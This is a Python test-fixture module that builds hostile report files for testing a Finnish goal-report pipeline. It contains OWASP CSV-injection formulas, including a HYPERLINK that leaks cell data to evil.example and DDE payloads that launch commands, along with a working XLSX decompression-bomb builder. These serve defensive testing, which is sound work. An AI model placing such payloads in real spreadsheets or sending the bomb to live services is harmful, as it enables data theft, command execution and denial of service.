"""Hostile and broken report files, built on demand for the tests and ``bench/hostile_inputs.py``.

Each builder writes one file into a folder and returns its path. The files
are what a careful attacker or a clumsy user would send: a goal row that
makes a naive cell split explode, a workbook that expands to gigabytes,
formulas in report text, JSON of the wrong shape. Nothing here is imported
by the pipeline itself.
"""

from __future__ import annotations

import json
import zipfile
from pathlib import Path

#: Report text that a spreadsheet would run as a formula (OWASP's CSV-injection examples).
FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Klikkaa")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)

CSV_HEADER = ("Sitova tavoite", "Mittari", "Lähtötaso", "Tavoitetaso", "Vastuuhenkilö(t)",
              "Keskeiset toimenpiteet", "Mittarien tilanne", "Tila")


def long_row_text(folder: Path, n_paragraphs: int = 60) -> Path:
    """One goal row of ``n_paragraphs`` paragraphs and no person name (2 KB at 60)."""
    body = "\n\n".join(f"Toimenpide {k} jatkuu\nsuunnitellusti." for k in range(n_paragraphs))
    path = folder / f"pitka_rivi_{n_paragraphs}.txt"
    path.write_text(f"1.1 Lisätään asuntotuotantoa\n\n{body}\n\nToteutuu täysin\n", encoding="utf-8")
    return path


def csv_rows(n: int, *, sep: str = ";", first: str = "Lisätään asuntotuotantoa") -> str:
    """A Finnish report table of ``n`` goal rows, with commas and semicolons in its text as real rows have."""
    def quote(cell: str) -> str:
        return '"' + cell.replace('"', '""') + '"' if any(c in cell for c in f'{sep}"\n,;') else cell

    lines = [sep.join(CSV_HEADER)]
    for k in range(n):
        goal = first if k == 0 else f"Lisätään palveluja, alue {k}"
        cells = (f"{k // 10 + 1}.{k % 10 + 1} {goal}", "Asuntojen määrä, kpl", "1 800 asuntoa",
                 "Vähintään 2 500 asuntoa; kohtuuhintaisia 20 %", "Anna Virtanen, Timo Aro",
                 "Kaavoitusta jatkettiin; tontteja luovutettiin 12.", "Valmistui 2 104 asuntoa (84,2 %).",
                 "Toteutuu osittain")
        lines.append(sep.join(quote(c) for c in cells))
    return "\n".join(lines) + "\n"


def xlsx_bomb(folder: Path, expanded_mb: int = 80) -> Path:
    """A valid workbook of a few hundred kilobytes whose sheet expands to ``expanded_mb`` megabytes of cells."""
    path = folder / f"pommi_{expanded_mb}mb.xlsx"
    header = ('<?xml version="1.0" encoding="UTF-8"?><worksheet '
              'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
    row = '<row><c t="inlineStr"><is><t>Toteutuu täysin</t></is></c><c t="inlineStr"><is><t>x</t></is></c></row>'
    parts = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8"?><Types '
            'xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'),
        "_rels/.rels": (
            '<?xml version="1.0" encoding="UTF-8"?><Relationships '
            'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
            'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
            'Target="xl/workbook.xml"/></Relationships>'),
        "xl/workbook.xml": (
            '<?xml version="1.0" encoding="UTF-8"?><workbook '
            'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
            '<sheet name="Tavoitteet" sheetId="1" r:id="rId1"/></sheets></workbook>'),
        "xl/_rels/workbook.xml.rels": (
            '<?xml version="1.0" encoding="UTF-8"?><Relationships '
            'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
            'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
            'Target="worksheets/sheet1.xml"/></Relationships>'),
    }
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(header.encode())
            block = (row * 1000).encode()
            for _ in range(expanded_mb * 2**20 // len(block) + 1):
                sheet.write(block)
            sheet.write(b"</sheetData></worksheet>")
    return path


def json_document(folder: Path, name: str, document: object | str) -> Path:
    """``document`` as a ``.json`` file (a string is written as it is, for text that is not JSON's own output)."""
    path = folder / name
    path.write_text(document if isinstance(document, str) else json.dumps(document, ensure_ascii=False),
                    encoding="utf-8")
    return path
